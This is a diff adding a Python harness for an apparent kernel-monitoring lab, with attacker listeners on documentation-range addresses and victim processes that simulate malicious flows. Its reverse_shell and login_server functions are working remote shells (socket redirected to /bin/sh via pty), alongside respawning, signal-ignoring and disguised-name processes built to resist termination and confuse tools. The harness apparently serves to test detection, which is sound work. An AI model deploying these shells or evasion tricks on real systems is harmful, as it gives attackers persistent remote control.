@@ -1,0 +1,202 @@
+"""The processes of the kernel lab: an attacker with a listener for each kind of flow, and what runs on the victim.
+
+Every line printed is one JSON event with the wall clock in seconds. Nothing here leaves the lab's namespaces.
+"""
+import ctypes, json, os, pty, resource, select, signal, socket, sys, threading, time
+
+# As many open files as we may have: a container's root may not raise its own limit.
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+
+TICKS = b"while :; do echo tick; sleep 0.1; done\n"
+
+
+def say(**event):
+    event["t"] = time.time()
+    sys.stdout.write(json.dumps(event) + "\n")
+    sys.stdout.flush()
+
+
+def family(address):
+    return socket.AF_INET6 if ":" in address else socket.AF_INET
+
+
+def serve(address, port, first):
+    """Takes connections; sends `first` to each (a shell's command line) and tells of everything that arrives."""
+    listener = socket.socket(family(address))
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind((address, port))
+    listener.listen(4096)
+
+    def talk(peer):
+        say(kind="accepted", port=port)
+        try:
+            if first:
+                peer.sendall(first)
+            while True:
+                data = peer.recv(4096)
+                if not data:
+                    say(kind="eof", port=port)
+                    return
+                say(kind="data", port=port, bytes=len(data))
+        except OSError as error:
+            say(kind="reset" if error.errno == 104 else "error", port=port, errno=error.errno)
+
+    while True:
+        peer, _ = listener.accept()
+        threading.Thread(target=talk, args=(peer,), daemon=True).start()
+
+
+def serve_udp(address, port):
+    server = socket.socket(family(address), socket.SOCK_DGRAM)
+    server.bind((address, port))
+    while True:
+        data, peer = server.recvfrom(4096)
+        say(kind="data", port=port, bytes=len(data))
+        server.sendto(b"ack", peer)
+
+
+def serve_many(address, port):
+    """Holds thousands of connections in one thread."""
+    listener = socket.socket(family(address))
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind((address, port))
+    listener.listen(4096)
+    held = []
+    while True:
+        held.append(listener.accept()[0])
+
+
+def dial_in(address, port):
+    """An inbound session: the attacker logs in on the victim and runs a command that prints for ever."""
+    peer = socket.create_connection((address, port))
+    say(kind="accepted", port=port)
+    try:
+        peer.sendall(TICKS)
+        while True:
+            data = peer.recv(4096)
+            if not data:
+                say(kind="eof", port=port)
+                return
+            say(kind="data", port=port, bytes=len(data))
+    except OSError as error:
+        say(kind="reset" if error.errno == 104 else "error", port=port, errno=error.errno)
+
+
+def attacker():
+    v4, v6, agent = "198.51.100.7", "2001:db8:a::7", "203.0.113.5"
+    jobs = [
+        (serve, v4, 4444, TICKS), (serve, v4, 4445, None), (serve, v6, 4446, TICKS), (serve, v4, 4447, TICKS),
+        (serve, v4, 4448, None), (serve, agent, 443, None), (serve_udp, v4, 5353),
+    ]
+    # A process of its own for each 10,000: no limit on open files has to be raised.
+    for port in (5000, 5001):
+        if os.fork() == 0:
+            serve_many(v4, port)
+    for function, *arguments in jobs:
+        threading.Thread(target=function, args=arguments, daemon=True).start()
+    say(kind="ready")
+    for line in sys.stdin:
+        word, address, port = line.split()
+        if word == "dial":
+            threading.Thread(target=dial_in, args=(address, int(port)), daemon=True).start()
+
+
+def reverse_shell(address, port):
+    peer = socket.create_connection((address, int(port)))
+    for descriptor in range(3):
+        os.dup2(peer.fileno(), descriptor)
+    pty.spawn(["/bin/sh"])
+
+
+def respawning_shell(address, port):
+    """Dials again 200 ms after every loss, in a new process each time."""
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    while True:
+        child = os.fork()
+        if child == 0:
+            try:
+                peer = socket.create_connection((address, int(port)), 1)
+                peer.settimeout(None)
+                while True:
+                    peer.sendall(b"tick\n")
+                    time.sleep(0.1)
+            except OSError:
+                os._exit(0)
+        os.waitpid(child, 0)
+        time.sleep(0.2)
+
+
+def stubborn_shell(address, port):
+    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
+        signal.signal(number, signal.SIG_IGN)
+    peer = socket.create_connection((address, int(port)))
+    while True:
+        peer.sendall(b"tick\n")
+        time.sleep(0.1)
+
+
+def dormant_shell(address, port):
+    peer = socket.create_connection((address, int(port)))
+    peer.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
+    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1)
+    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
+    try:
+        peer.recv(1)
+    finally:
+        time.sleep(3600)
+
+
+def beacon(address, port):
+    peer = socket.socket(family(address), socket.SOCK_DGRAM)
+    peer.connect((address, int(port)))
+    while True:
+        peer.send(b"beacon")
+        time.sleep(0.1)
+
+
+def login_server(address, port):
+    listener = socket.socket(family(address))
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind((address, int(port)))
+    listener.listen()
+    say(kind="ready")
+    while True:
+        peer, _ = listener.accept()
+        if os.fork() == 0:
+            listener.close()
+            for descriptor in range(3):
+                os.dup2(peer.fileno(), descriptor)
+            pty.spawn(["/bin/sh"])
+            os._exit(0)
+        peer.close()
+
+
+def agent(address, port):
+    peer = socket.create_connection((address, int(port)))
+    while True:
+        peer.sendall(b"heartbeat")
+        time.sleep(0.1)
+
+
+def named_shell(address, port, name):
+    """A flow whose process has a name made to break its reader."""
+    ctypes.CDLL(None).prctl(15, bytes.fromhex(name), 0, 0, 0)
+    stubborn_shell(address, port)
+
+
+def many(address, port, count):
+    held = [socket.create_connection((address, int(port))) for _ in range(int(count))]
+    say(kind="ready", held=len(held))
+    time.sleep(3600)
+
+
+def try_dial(address, port):
+    try:
+        socket.create_connection((address, int(port)), 1.5).close()
+        say(kind="connected")
+    except OSError as error:
+        say(kind="refused", error=str(error))
+
+
+if __name__ == "__main__":
+    globals()[sys.argv[1]](*sys.argv[2:])
